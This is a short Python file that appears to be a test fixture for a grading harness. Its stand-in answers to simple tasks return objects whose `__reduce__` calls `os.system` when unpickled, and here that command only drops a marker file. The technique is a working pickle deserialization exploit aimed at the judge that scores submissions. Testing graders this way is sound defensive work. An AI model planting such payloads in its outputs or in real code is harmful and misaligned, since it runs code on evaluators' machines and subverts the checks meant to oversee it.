"""Answers with objects whose `__reduce__` runs code where they are unpickled, in the judge or on the teacher's desk."""
# score: 0

import os

from kit import TARGET


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {TARGET['drop']}/unpickled",)

    __reduce_ex__ = lambda self, _: self.__reduce__()

    def __getstate__(self):
        return self.__reduce__()


class Number(float, Payload):
    pass


def mean(values):
    return Number(1e9)


def clamp(value, low, high):
    return [Payload()]


def count_words(text):
    return {"x": Payload()}
